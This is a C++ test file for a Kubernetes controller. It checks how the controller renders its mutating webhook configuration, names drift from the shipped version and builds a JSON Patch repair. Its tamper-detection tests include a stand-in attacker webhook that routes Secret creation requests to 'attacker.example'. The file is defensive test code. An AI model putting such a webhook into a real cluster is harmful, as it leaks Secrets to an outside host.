// The shipped webhook configurations as the leader keeps them (issue 25): rendering for an install,
// the differences it names (API-server defaults and caBundle aside), and the repair patch, applied
// with an independent JSON Patch implementation (nlohmann::json::patch).
#include <doctest/doctest.h>

#include <nlohmann/json.hpp>

#include "controller/webhook_config.hpp"

namespace webhooks = mlnetpol::controller::webhooks;
using nlohmann::json;

namespace {

// A shipped configuration as manifests/base/webhooks.yaml writes it (no defaults, no caBundle).
json manifest() {
  return json::parse(R"({
    "apiVersion": "admissionregistration.k8s.io/v1", "kind": "MutatingWebhookConfiguration",
    "metadata": {"name": "mlnetpol"},
    "webhooks": [
      {"name": "namespaces.mutate.mlnetpol.io",
       "clientConfig": {"service": {"name": "mlnetpol", "namespace": "mlnetpol-system",
                                    "path": "/mutate", "port": 443}},
       "rules": [{"apiGroups": [""], "apiVersions": ["v1"], "operations": ["CREATE", "UPDATE"],
                  "resources": ["namespaces"], "scope": "Cluster"}],
       "failurePolicy": "Ignore", "reinvocationPolicy": "IfNeeded",
       "admissionReviewVersions": ["v1"], "sideEffects": "NoneOnDryRun", "timeoutSeconds": 5,
       "matchPolicy": "Equivalent"},
      {"name": "workloads.mutate.mlnetpol.io",
       "clientConfig": {"service": {"name": "mlnetpol", "namespace": "mlnetpol-system",
                                    "path": "/mutate", "port": 443}},
       "rules": [{"apiGroups": [""], "apiVersions": ["v1"], "operations": ["CREATE"],
                  "resources": ["pods"]}],
       "namespaceSelector": {"matchLabels": {"mlnetpol.io/secured": "true"}},
       "failurePolicy": "Fail", "reinvocationPolicy": "IfNeeded",
       "admissionReviewVersions": ["v1"], "sideEffects": "NoneOnDryRun", "timeoutSeconds": 5}
    ]})");
}

json rendered(const webhooks::render_options& o = {}) {
  auto r = webhooks::render(manifest().dump(), o);
  REQUIRE_MESSAGE(r.has_value(), r.error().message);
  return json::parse(*r);
}

// What the API server returns after storing `hooks`: defaults filled in, a caBundle on each
// entry, managedFields, a resourceVersion.
json stored(json hooks, const std::string& ca = "Q0E=") {
  for (auto& h : hooks) {
    h["clientConfig"]["caBundle"] = ca;
    h.emplace("objectSelector", json::object());
    h.emplace("namespaceSelector", json::object());
    h.emplace("matchPolicy", "Equivalent");
    for (auto& r : h["rules"]) r.emplace("scope", "*");
  }
  json o = manifest();
  o["metadata"]["resourceVersion"] = "41";
  o["metadata"]["managedFields"] = json::parse(
      R"([{"manager":"kubectl-client-side-apply","operation":"Update"},
          {"manager":"mlnetpol","operation":"Update"},
          {"manager":"kubectl-edit","operation":"Update"}])");
  o["webhooks"] = std::move(hooks);
  return o;
}

std::vector<std::string> diff(const json& observed, const json& desired) {
  auto d = webhooks::differences(observed.dump(), desired.dump());
  REQUIRE_MESSAGE(d.has_value(), d.error().message);
  return *d;
}

// Repairs observed with the patch and returns the result (the API server's defaults re-applied).
json repaired(const json& observed, const json& desired, const std::string& fallback = "TkVX") {
  auto patch = webhooks::repair_patch(observed.dump(), desired.dump(), fallback);
  REQUIRE_MESSAGE(patch.has_value(), patch.error().message);
  const json p = json::parse(*patch);
  CHECK(p[0] == json::parse(R"({"op":"test","path":"/metadata/resourceVersion","value":"41"})"));
  return observed.patch(p);
}

}  // namespace

TEST_CASE("render: the Service of this install, or a URL; fail-open; never a caBundle") {
  webhooks::render_options o;
  o.service = "guard";
  o.service_namespace = "platform";
  json r = rendered(o);
  REQUIRE(r.size() == 2);
  CHECK(r[0]["clientConfig"] == json::parse(R"({"service":{"name":"guard","namespace":"platform",
                                                           "path":"/mutate","port":443}})"));
  CHECK(r[1]["failurePolicy"] == "Fail");
  o.url_base = "https://127.0.0.1:8443";
  o.fail_open = true;
  r = rendered(o);
  CHECK(r[1]["clientConfig"] == json::parse(R"({"url":"https://127.0.0.1:8443/mutate"})"));
  CHECK(r[0]["failurePolicy"] == "Ignore");
  CHECK(r[1]["failurePolicy"] == "Ignore");
  // workloads-fail: the workload webhooks (only) fail closed.
  o.fail_open = false;
  o.workloads_fail_closed = true;
  json shipped_open = manifest();
  shipped_open["webhooks"][1]["failurePolicy"] = "Ignore";
  shipped_open["webhooks"][0]["failurePolicy"] = "Ignore";
  auto closed = webhooks::render(shipped_open.dump(), o);
  REQUIRE(closed.has_value());
  r = json::parse(*closed);
  CHECK(r[0]["failurePolicy"] == "Ignore");
  CHECK(r[1]["failurePolicy"] == "Fail");
  json with_ca = manifest();
  with_ca["webhooks"][0]["clientConfig"]["caBundle"] = "eA==";
  auto again = webhooks::render(with_ca.dump(), {});
  REQUIRE(again.has_value());
  CHECK(again->find("caBundle") == std::string::npos);
  CHECK_FALSE(webhooks::render(R"({"webhooks":[{"name":"x"}]})", {}).has_value());
  CHECK_FALSE(webhooks::render("[", {}).has_value());
}

TEST_CASE("differences: none for what the API server stored from the rendering, caBundle aside") {
  const json desired = rendered();
  CHECK(diff(stored(desired), desired).empty());
  CHECK(diff(stored(desired, "b3RoZXI="), desired).empty());  // caBundle is the rotation's
}

TEST_CASE("differences: each stolen-token edit is named") {
  const json desired = rendered();
  SUBCASE("a webhook added (the attacker's, on Secrets, to its own URL)") {
    json hooks = desired;
    hooks.push_back(json::parse(R"({"name":"evil.mlnetpol.io",
        "clientConfig":{"url":"https://attacker.example/x"},
        "rules":[{"apiGroups":[""],"apiVersions":["v1"],"operations":["CREATE"],
                  "resources":["secrets"]}],
        "admissionReviewVersions":["v1"],"sideEffects":"None"})"));
    CHECK(diff(stored(hooks), desired) ==
          std::vector<std::string>{"webhook evil.mlnetpol.io added"});
  }
  SUBCASE("a webhook removed") {
    json hooks = desired;
    hooks.erase(1);
    CHECK(diff(stored(hooks), desired) ==
          std::vector<std::string>{"webhook workloads.mutate.mlnetpol.io removed"});
  }
  SUBCASE("fields changed: failurePolicy, rules, selector, clientConfig, matchConditions") {
    json hooks = desired;
    hooks[1]["failurePolicy"] = "Ignore";
    hooks[1]["rules"][0]["resources"] = json::array({"pods", "secrets"});
    hooks[1]["objectSelector"] = json::parse(R"({"matchLabels":{"skip":"no"}})");
    hooks[0]["clientConfig"]["service"]["name"] = "evil";
    hooks[0]["matchConditions"] = json::parse(R"([{"name":"never","expression":"false"}])");
    const auto d = diff(stored(hooks), desired);
    REQUIRE(d.size() == 2);
    CHECK(d[0] == "webhook namespaces.mutate.mlnetpol.io changed: clientConfig matchConditions");
    CHECK(d[1] ==
          "webhook workloads.mutate.mlnetpol.io changed: failurePolicy objectSelector rules");
  }
  SUBCASE("a default written out is no change; a different timeout is") {
    json unset = desired;
    unset[1].erase("timeoutSeconds");
    json hooks = unset;
    hooks[1]["timeoutSeconds"] = 10;
    hooks[1]["reinvocationPolicy"] = "IfNeeded";
    CHECK(diff(stored(hooks), unset).empty());
    hooks = desired;
    hooks[0]["timeoutSeconds"] = 30;
    CHECK(
        diff(stored(hooks), desired) ==
        std::vector<std::string>{"webhook namespaces.mutate.mlnetpol.io changed: timeoutSeconds"});
  }
  SUBCASE("reordered: the mutation order changes") {
    json hooks = json::array({desired[1], desired[0]});
    CHECK(diff(stored(hooks), desired) == std::vector<std::string>{"webhooks reordered"});
  }
  SUBCASE("all webhooks gone") {
    json o = stored(desired);
    o.erase("webhooks");
    CHECK(diff(o, desired).size() == 2);
  }
  CHECK_FALSE(webhooks::differences(R"({"webhooks":[{"rules":[]}]})", desired.dump()).has_value());
  CHECK_FALSE(webhooks::differences("{", desired.dump()).has_value());
}

TEST_CASE("repair patch: the result is the shipped configuration, caBundles kept or filled in") {
  const json desired = rendered();
  json hooks = desired;
  hooks.erase(0);  // removed: put back with the fallback caBundle
  hooks[0]["failurePolicy"] = "Ignore";
  hooks.push_back(json::parse(R"({"name":"evil.mlnetpol.io","clientConfig":{"url":"https://e/x"},
      "rules":[],"admissionReviewVersions":["v1"],"sideEffects":"None"})"));
  const json observed = stored(hooks, "S0VQVA==");
  const json result = repaired(observed, desired);
  CHECK(diff(stored(result["webhooks"]), desired).empty());
  CHECK(diff(result, desired).empty());
  REQUIRE(result["webhooks"].size() == 2);
  CHECK(result["webhooks"][0]["clientConfig"]["caBundle"] == "TkVX");      // put back
  CHECK(result["webhooks"][1]["clientConfig"]["caBundle"] == "S0VQVA==");  // its own
  CHECK(result["metadata"] == observed["metadata"]);  // only the webhooks are written
  // Without any caBundle to give, a webhook put back has none (the rotation fills it in).
  const json bare = repaired(stored(json::array({desired[1]})), desired, "");
  CHECK_FALSE(bare["webhooks"][0]["clientConfig"].contains("caBundle"));
  CHECK_FALSE(webhooks::repair_patch(R"({"webhooks":[]})", desired.dump(), "").has_value());
}

TEST_CASE("other managers: who else wrote the configuration, mlnetpol left out") {
  CHECK(webhooks::other_managers(stored(rendered()).dump()) ==
        std::vector<std::string>{"kubectl-client-side-apply (Update)", "kubectl-edit (Update)"});
  CHECK(webhooks::other_managers("{").empty());
}
